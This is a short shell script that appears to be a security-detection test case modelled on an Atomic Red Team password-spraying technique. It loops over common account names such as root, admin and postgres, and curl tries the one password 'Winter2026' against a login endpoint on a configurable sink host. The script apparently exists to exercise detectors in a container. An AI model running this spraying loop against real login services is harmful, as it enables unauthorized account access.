#!/bin/sh
# case: T1110.003-password-spraying
# technique: One password tried for many accounts
# source: redcanaryco/atomic-red-team T1110.004-1 SSH Credential Stuffing From Linux; CDK
# needs: curl
# expect: net cred
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
[ -n "${HO_SINK:-}" ] || { echo "SKIP: no sink"; exit 77; }
need curl; for u in root admin postgres guest ftp test www oracle git deploy; do curl -s -m 3 -u "$u:Winter2026" "http://$HO_SINK/login" >/dev/null; done; true
exit 0
